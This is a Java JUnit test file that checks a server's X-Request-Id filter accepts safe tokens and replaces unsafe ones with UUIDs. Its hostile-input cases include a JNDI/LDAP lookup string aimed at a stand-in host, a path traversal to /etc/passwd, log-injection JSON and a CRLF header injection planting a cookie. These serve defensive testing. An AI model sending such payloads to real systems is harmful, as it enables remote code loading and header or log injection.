package dev.latchkey.server;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.MDC;

class RequestIdTest {
    private static TestServer serverEchoingMdc() {
        return TestServer.start(b -> b.routes(routes -> routes.get("/mdc", ctx -> {
            String id = MDC.get(RequestIdFilter.MDC_KEY);
            ctx.result(id == null ? "none" : id);
        })));
    }

    private static boolean isUuid(String value) {
        try {
            return UUID.fromString(value).toString().equals(value);
        } catch (IllegalArgumentException e) {
            return false;
        }
    }

    @Test
    void requestId_wellFormedIncoming_isEchoedAndInMdc() {
        try (TestServer test = serverEchoingMdc()) {
            HttpResponse<String> response = test.send(
                    test.request("/mdc").header("X-Request-Id", "req-42.A_b").build());

            assertThat(response.headers().allValues("X-Request-Id")).containsExactly("req-42.A_b");
            assertThat(response.body()).isEqualTo("req-42.A_b");
        }
    }

    @Test
    void requestId_absent_isGeneratedUuidEchoedAndInMdc() {
        try (TestServer test = serverEchoingMdc()) {
            HttpResponse<String> response = test.get("/mdc");

            String id = response.headers().firstValue("X-Request-Id").orElseThrow();
            assertThat(isUuid(id)).isTrue();
            assertThat(response.body()).isEqualTo(id);
        }
    }

    static Stream<String> hostileIds() {
        return Stream.of(
                "a".repeat(1000),
                "${jndi:ldap://evil.test/a}",
                "\"}{\"level\":\"ERROR\"",
                "two words",
                "../../etc/passwd",
                "caf\u00e9",
                "");
    }

    @ParameterizedTest
    @MethodSource("hostileIds")
    void requestId_hostileIncoming_isReplacedByUuid(String hostile) {
        try (TestServer test = serverEchoingMdc()) {
            HttpResponse<String> response = test.send(
                    test.request("/mdc").header("X-Request-Id", hostile).build());

            String id = response.headers().firstValue("X-Request-Id").orElseThrow();
            assertThat(id).isNotEqualTo(hostile);
            assertThat(isUuid(id)).isTrue();
            assertThat(response.body()).isEqualTo(id);
        }
    }

    @Test
    void requestId_crlfInjectedOnTheWire_neverReachesResponseHeaders() throws IOException {
        try (TestServer test = serverEchoingMdc();
                Socket socket = new Socket(InetAddress.getByAddress(new byte[] {127, 0, 0, 1}), test.port)) {
            OutputStream out = socket.getOutputStream();
            String request = String.join(
                    "\r\n",
                    "GET /mdc HTTP/1.1",
                    "Host: localhost",
                    "X-Request-Id: ok\rSet-Cookie: planted=1",
                    "Connection: close",
                    "",
                    "");
            out.write(request.getBytes(StandardCharsets.ISO_8859_1));
            out.flush();
            InputStream in = socket.getInputStream();
            String raw = new String(in.readAllBytes(), StandardCharsets.ISO_8859_1);

            String head = raw.substring(0, Math.max(0, raw.indexOf("\r\n\r\n")));
            assertThat(head).doesNotContainIgnoringCase("set-cookie").doesNotContain("planted");
            assertThat(head.lines().filter(line -> line.regionMatches(true, 0, "X-Request-Id:", 0, 13)))
                    .allSatisfy(line -> assertThat(line.substring(13).strip()).matches("[A-Za-z0-9._-]{1,64}"));
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"abc", "A-Z_a.z-0", "0123456789012345678901234567890123456789012345678901234567890123"})
    void acceptOrGenerate_safeTokens_areKept(String safe) {
        assertThat(RequestIdFilter.acceptOrGenerate(safe)).isEqualTo(safe);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a\r\nb",
                "a\nb",
                "a b",
                "\u001b[31mred",
                "01234567890123456789012345678901234567890123456789012345678901234"
            })
    void acceptOrGenerate_unsafeTokens_areReplaced(String unsafe) {
        String id = RequestIdFilter.acceptOrGenerate(unsafe);
        assertThat(id).isNotEqualTo(unsafe);
        assertThat(isUuid(id)).isTrue();
    }
}
